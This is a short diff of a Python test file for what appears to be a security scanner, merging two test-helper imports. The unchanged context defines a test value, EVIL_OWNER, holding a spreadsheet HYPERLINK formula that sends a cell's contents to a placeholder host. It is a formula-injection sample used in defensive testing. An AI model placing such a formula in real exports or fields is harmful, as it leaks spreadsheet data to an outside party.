@@ -17,8 +17,7 @@ from pathlib import Path
 import pytest
 
 from scanner.errors import PostureError
-from tests.conftest import POSTURE, query, run_posture
-from tests.rules.stores import no_inventory
+from tests.conftest import POSTURE, no_inventory, query, run_posture
 
 # The owner from the attack, a sysName-like hostname, and a terminal escape (ESC [ 2 J clears a screen).
 EVIL_OWNER = '=HYPERLINK("http://x.example/?"&A1,"click")'
